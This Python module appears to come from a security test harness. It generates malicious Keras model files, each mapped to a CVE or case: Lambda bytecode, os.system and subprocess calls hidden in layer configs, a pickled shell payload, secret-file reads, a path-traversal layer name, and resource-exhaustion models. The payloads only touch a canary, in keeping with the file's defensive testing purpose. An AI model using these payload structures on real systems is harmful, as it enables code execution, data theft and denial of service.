"""Attacks through the description of the layers, in every format of both Kerases."""

from __future__ import annotations

import base64
import marshal

from load.attacks import Attack
from load.attacks.files import dense, h5_file, layer, network, zip_file

FORMATS = {
    "keras3.keras": (zip_file, "keras3"),
    "keras3.h5": (h5_file, "keras3"),
    "keras2.keras": (zip_file, "keras2"),
    "keras2.h5": (h5_file, "keras2"),
}


def bytecode(target):
    """Marshalled code that writes the canary, as Lambda layers hold it."""
    source = f"lambda x: __import__('pathlib').Path({str(target.canary)!r}).write_text('x')"
    code = compile(source, "x", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def shell(target):
    return f"touch {target.canary}"


def function(name, module):
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def lambda_bytecode(t):
    value = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("Lambda", "keras.layers", function=value, arguments={}))


def lambda_old_bytecode(t):
    code = [bytecode(t), None, None]
    return network(layer("Lambda", function=code, function_type="lambda", arguments={}))


def lambda_output_shape(t):
    code = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("Lambda", function="relu", output_shape=code))


def lambda_in_wrapper(t):
    inner = layer("Lambda", function=[bytecode(t), None, None], function_type="lambda")
    return network(layer("TimeDistributed", "keras.layers", layer=inner))


def module_and_function(t):
    activation = function("system", "os")
    return network(dense(activation=activation), last="dense")


def class_of_a_module(t):
    return network(layer("Popen", "subprocess", args=shell(t), shell=True))


def class_with_arguments(t):
    node = [{"args": [shell(t)], "kwargs": {}}]
    return network(layer("system", "os", nodes=node))


def get_file(t):
    get = function("get_file", "keras.utils")
    arguments = {"origin": t.secret.as_uri(), "fname": str(t.canary)}
    return network(layer("Lambda", "keras.layers", function=get, arguments=arguments))


def unsafe_switch(t):
    off = function("enable_unsafe_deserialization", "keras.config")
    return network(dense(activation=off), last="dense")


def load_another(t):
    load = function("load_model", "keras.models")
    node = [{"args": [], "kwargs": {"inputs": str(t.secret)}}]
    return network(layer("Lambda", "keras.layers", function=load, nodes=node))


def scope_gadget(t):
    made = layer("os.popen", "keras.src.saving.saving_api", name="p",
                 nodes=[[["_CONSTANT_VALUE", -1, shell(t), {}]]])  # fmt: skip
    return network({**made, "config": "LayerScale", "registered_name": "zz"}, last="p")


def private_module(t):
    made = layer("os.system", "keras.src.utils.io_utils", name="p",
                 nodes=[[["_CONSTANT_VALUE", -1, shell(t), {}]]])  # fmt: skip
    return network(made, last="p")


def registered_name(t):
    return network({**dense(), "module": "keras.layers", "registered_name": "os>system"},
                   last="dense")  # fmt: skip


def initializer_of_a_module(t):
    start = {"class_name": "system", "module": "os", "config": {"command": shell(t)}}
    return network(dense(kernel_initializer=start), last="dense")


def initializer_by_path(t):
    return network(dense(kernel_initializer="os.system"), last="dense")


def build_config(t):
    evil = {"class_name": "system", "module": "os", "config": {"command": shell(t)}}
    made = {**dense(), "module": "keras.layers", "build_config": {"input_shape": evil}}
    return network(made, last="dense")


def nested_compile_config(t):
    evil = {"class_name": "function", "module": "os", "config": "system"}
    inner = layer("Sequential", "keras", name="inner", layers=[dense()])
    return network({**inner, "compile_config": {"optimizer": evil, "loss": evil}, "extra": evil},
                   last="inner")  # fmt: skip


def saved_model_layer(t):
    return network(layer("TFSMLayer", "keras.layers", filepath=str(t.secret.parent)))


def torch_module(t):
    pickled = base64.b64encode(b"cos\nsystem\n(S'touch " + str(t.canary).encode() + b"'\ntR.")
    return network(layer("TorchModuleWrapper", "keras.layers", module=pickled.decode()))


def jax_layer(t):
    code = {"class_name": "__lambda__", "config": {"value": bytecode(t)}}
    return network(layer("JaxLayer", "keras.layers", call_fn=code))


def feature_columns(t):
    column = {"class_name": "VocabularyFileCategoricalColumn",
              "config": {"key": "k", "vocabulary_file": str(t.secret)}}  # fmt: skip
    return network(layer("DenseFeatures", feature_columns=[column]))


def cell_wrapper(t):
    code = {"function": bytecode(t), "function_type": "lambda", "module": "x"}
    cell = layer("GRUCell", units=2)
    made = layer("ResidualWrapper", cell=cell, residual_fn=code)
    return network(layer("RNN", "keras.layers", cell=made))


def vocabulary(t):
    return network(layer("StringLookup", "keras.layers", vocabulary=str(t.secret)))


def remote_vocabulary(t):
    return network(layer("TextVectorization", vocabulary="http://127.0.0.1:9/words"))


def integer_vocabulary(t):
    return network(layer("IntegerLookup", vocabulary=str(t.secret), idf_weights=None))


def vocabulary_in_bytes(t):
    path = {"class_name": "__bytes__", "config": {"value": str(t.secret)}}
    return network(layer("StringLookup", vocabulary=path))


def vocabulary_in_an_array(t):
    path = {"class_name": "__numpy__", "config": {"value": str(t.secret), "dtype": "string"}}
    return network(layer("StringLookup", vocabulary=path))


def tensorflow_function(name, **kwargs):
    def make(t):
        arguments = {k: v.format(canary=t.canary, secret=t.secret) for k, v in kwargs.items()}
        node = [[["x", 0, 0, arguments]]]
        return network(layer("TFOpLambda", function=name, nodes=node))

    return make


def op_layer(t):
    op = {"op": "WriteFile", "name": "w", "input": [str(t.canary), "x"]}
    return network(layer("TensorFlowOpLayer", node_def=op, constants={}))


def class_method(t):
    made = layer("ClassMethod", cls_symbol="io.gfile.GFile", method_name="__init__",
                 nodes=[[["x", 0, 0, {"name": str(t.canary), "mode": "w"}]]])  # fmt: skip
    return network(made)


def composite_constant(t):
    spec = '{"class_name": "TypeSpec", "type_spec": "tf.DatasetSpec", "serialized": []}'
    node = [[["_CONSTANT_VALUE", -1, ["_COMPOSITE_TYPE", spec], {}]]]
    return network(layer("Activation", activation="relu", nodes=node))


def name_that_climbs(t):
    return network(layer("Dense", name=f"../../../../../../..{t.canary}", units=2),
                   last=f"../../../../../../..{t.canary}")  # fmt: skip


def name_that_rewrites_the_terminal(t):
    name = "a\x9b2J\x7f\u202eb"
    return network(layer("Dense", name=name, units=2), last=name)


def constant_call(t):
    """A call on numbers alone is not noted down for later: it is computed at once."""
    numbers = {"args": [0, 3_000_000_000], "kwargs": {"step": 1}}
    module = "keras.src.ops.numpy"
    made = layer("Arange", module, nodes=[numbers], dtype="float32")
    return network({**made, "registered_name": "Arange"})


def constant_call_of_tensorflow(t):
    node = [[["_CONSTANT_VALUE", -1, [60_000, 60_000], {}]]]
    return network(layer("TFOpLambda", function="zeros", nodes=node))


def waits_for_itself(t):
    return network(layer("Dense", units=2, nodes=[[["odd", 0, 0, {}]]]))


def wait_for_each_other(t):
    a = layer("Dense", name="a", units=2, nodes=[[["b", 0, 0, {}]]])
    b = layer("Dense", name="b", units=2, nodes=[[["a", 0, 0, {}]]])
    return network(a, b, last="a")


def waits_in_arguments(t):
    made = layer("Attention", nodes=[[["x", 0, 0, {"mask": ["odd", 5, 0]}]]])
    return network(made)


def waits_for_a_layer_without_calls(t):
    idle = layer("Dense", name="idle", units=2, nodes=[])
    return network(idle, layer("Dense", units=2, nodes=[[["idle", 0, 0, {}]]]))


def waits_in_the_form_of_the_other_keras(t):
    """Keras 2 also looks into what Keras 3 calls the arguments."""
    node = [{"args": [["odd", 5, 0, {}]], "kwargs": {}}]
    return network(layer("Dense", units=2, nodes=node))


def waits_for_a_call_without_number(t):
    return network(layer("Dense", units=2, nodes=[[["x", 0, 0, {}], ["odd", "first", 0, {}]]]))


def waits_in_a_network_without_ends(t):
    inner = waits_for_itself(t)
    del inner["config"]["input_layers"], inner["config"]["output_layers"]
    return network({**inner, "name": "inner", "inbound_nodes": []}, last="inner")


def multiplying_networks(t):
    tree = network(layer("Activation", activation="relu"))
    for level in range(30):
        inner = {**tree, "name": f"n{level}"}
        inner["config"] = {**tree["config"], "name": f"n{level}"}
        inner["inbound_nodes"] = [[["x", 0, 0, {}]], [[f"n{level}", 1, 0, {}]]]
        tree = network(inner, last=f"n{level}")
        tree["config"]["output_layers"] = [[f"n{level}", 2, 0]]
    return tree


def huge_dense(t):
    return network(dense(), layer("Dense", units=2_000_000_000))


def size_beyond_all_types(t):
    return network(dense(), layer("Dense", units=10**400))


def huge_chain(t):
    a = layer("Dense", name="a", units=2_000_000)
    return network(a, layer("Dense", units=2_000_000, nodes=[[["a", 0, 0, {}]]]))


def huge_embedding(t):
    return network(layer("Embedding", input_dim=4_000_000, output_dim=1_000))


def huge_input(t):
    made = network(dense(), last="dense")
    made["config"]["layers"][0]["config"]["batch_shape"] = [1, 60_000, 60_000, 3]
    return made


def huge_upsampling(t):
    return network(layer("UpSampling2D", size=[100_000_000, 100_000_000]))


def endless_unrolling(t):
    made = network(layer("LSTM", units=2, unroll=True))
    made["config"]["layers"][0]["config"]["batch_shape"] = [None, 10_000_000, 2]
    return made


def unrolling_by_the_way(t):
    """Its length stands in no input: the layers before it make it."""
    grown = [layer("Reshape", name="r", target_shape=[4, 1])]
    for k in range(5):
        node = [[[grown[-1]["name"], 0, 0, {}]]]
        grown.append(layer("UpSampling1D", name=f"u{k}", size=10, nodes=node))
    unrolled = layer("SimpleRNN", units=2, unroll=True, nodes=[[["u4", 0, 0, {}]]])
    return network(*grown, unrolled)


def repeated_one_by_one(t):
    """Keras 2 cuts the tensor into its steps to repeat each; with Keras 3 it is only large."""
    grown = [layer("Reshape", name="r", target_shape=[4, 1])]
    for k in range(9):
        node = [[[grown[-1]["name"], 0, 0, {}]]]
        grown.append(layer("UpSampling1D", name=f"u{k}", size=10, nodes=node))
    made = network(*grown, dense(), last="dense")
    made["config"]["output_layers"].append(["u8", 0, 0])
    return made


def groups(t):
    made = network(layer("Conv1D", filters=1 << 20, kernel_size=[1], groups=1 << 20))
    made["config"]["layers"][0]["config"]["batch_shape"] = [None, 4, 1 << 20]
    return made


def many_cells(t):
    cells = [layer("LSTMCell", name=f"c{k}", units=1) for k in range(15_000)]
    return network(layer("RNN", cell=layer("StackedRNNCells", cells=cells)))


def many_calls(t):
    nodes = [[["x", 0, 0, {}]], *([["odd", k, 0, {}]] for k in range(60_000))]
    return network(layer("Activation", activation="relu", nodes=nodes))


def filter_bank(t):
    return network(dense(), layer("MelSpectrogram", "keras.layers", num_mel_bins=10**6,
                                  fft_length=10**6))  # fmt: skip


def endless_iterations(t):
    inner = layer("Dense", units=2)
    return network(layer("SpectralNormalization", layer=inner, power_iterations=10**12))


def many_parts(t):
    node = [[["x", 0, 0, {"num_or_size_splits": 10**8}]]]
    return network(layer("TFOpLambda", function="split", nodes=node))


_SOURCES = {
    lambda_bytecode: "CVE-2024-3660: code in a Lambda layer",
    lambda_old_bytecode: "GHSA-36rr-ww3j-vrjv, CVE-2025-9905: .h5 ignores safe_mode",
    lambda_output_shape: "CVE-2024-3660: code in another field of a Lambda layer",
    lambda_in_wrapper: "CVE-2024-3660: inside another layer",
    module_and_function: "CVE-2025-1550: a module and a function by name",
    class_of_a_module: "CVE-2025-1550: a class of any module",
    class_with_arguments: "CVE-2025-1550: arguments through inbound_nodes",
    get_file: "CVE-2025-8747: keras.utils.get_file writes any file",
    unsafe_switch: "CVE-2025-9906: turns safe_mode off from the description",
    load_another: "CVE-2025-9906: loads a second model",
    scope_gadget: "case 20: config names a class of the scope",
    private_module: "case 20: a dotted class name in a private module",
    registered_name: "case 20: a registered name of another package",
    initializer_of_a_module: "CVE-2025-1550: an initializer",
    initializer_by_path: "CVE-2025-1550: an initializer by a dotted path",
    build_config: "CVE-2025-1550: an object in build_config",
    nested_compile_config: "CVE-2025-1550: compile_config of an inner network",
    saved_model_layer: "CVE-2026-1462: TFSMLayer loads a SavedModel",
    torch_module: "TorchModuleWrapper unpickles (Keras 3.11's notes)",
    jax_layer: "JaxLayer holds code",
    feature_columns: "a vocabulary file of a feature column",
    cell_wrapper: "code in a wrapper of a recurrent cell",
    vocabulary: "CVE-2025-12058: vocabulary from a path",
    remote_vocabulary: "CVE-2025-12058: vocabulary from the network",
    integer_vocabulary: "CVE-2025-12058: IntegerLookup",
    vocabulary_in_bytes: "CVE-2025-12058: a path as bytes",
    vocabulary_in_an_array: "CVE-2025-12058: a path as an array",
    tensorflow_function("io.write_file", filename="{canary}", contents="x"): "TFOpLambda writes",
    tensorflow_function("io.read_file", filename="{secret}"): "TFOpLambda reads",
    tensorflow_function("raw_ops.WriteFile", filename="{canary}"): "TFOpLambda and raw_ops",
    tensorflow_function("py_function", func="os.system"): "TFOpLambda calls Python",
    tensorflow_function("load_op_library", library_filename="{secret}"): "TFOpLambda loads code",
    tensorflow_function("print", output_stream="file://{canary}"): "TFOpLambda prints to a file",
    tensorflow_function(
        "nn.fixed_unigram_candidate_sampler", vocab_file="{secret}"
    ): "TFOpLambda: a function of nn that reads a file",
    tensorflow_function("keras.utils.get_file", origin="{secret}"): "TFOpLambda and Keras' own",
    op_layer: "TensorFlowOpLayer runs an operator",
    class_method: "ClassMethod opens a file",
    composite_constant: "a constant that names a TypeSpec in a text of its own",
    name_that_climbs: "CVE-2026-12479: a layer's name is a path",
    name_that_rewrites_the_terminal: "a layer's name is an escape sequence",
    constant_call: "issue 12: a call on numbers alone asks for 12 GB at once",
    constant_call_of_tensorflow: "issue 12: a function called on a constant",
    waits_for_itself: "case 22: a node that waits for itself",
    wait_for_each_other: "case 22: two that wait for each other",
    waits_in_arguments: "case 22: a wait in a call's arguments",
    waits_for_a_layer_without_calls: "case 22: a wait for a layer that nothing calls",
    waits_in_the_form_of_the_other_keras: "case 22: a wait in the other Keras' form",
    waits_for_a_call_without_number: "case 22: a wait for a call that has no number",
    waits_in_a_network_without_ends: "case 22: a wait in a network without ends",
    multiplying_networks: "networks in networks, each called twice",
    huge_dense: "issue 12: a small file asks for 16 GB",
    size_beyond_all_types: "a size of 400 digits",
    huge_chain: "issue 12: two sizes multiply",
    huge_embedding: "issue 12: an embedding",
    huge_input: "an input of 40 GB",
    huge_upsampling: "an activation of any size",
    endless_unrolling: "ten million steps unrolled",
    unrolling_by_the_way: "400,000 steps unrolled, as the layers before make them",
    repeated_one_by_one: "four million steps repeated one by one",
    groups: "a convolution of a million groups",
    many_cells: "15,000 recurrent cells in a stack",
    many_calls: "60,000 calls of one layer",
    filter_bank: "a bank of filters of 4 TB",
    endless_iterations: "a million million iterations",
    many_parts: "a hundred million outputs",
}


def _in_format(make, form):
    write, keras = FORMATS[form]
    ending = form.partition(".")[2]
    return lambda target: write(target.folder / f"model.{ending}", make(target), keras)


ATTACKS = [
    Attack(f"{source} ({form})", source, _in_format(make, form))
    for make, source in _SOURCES.items()
    for form in FORMATS
]
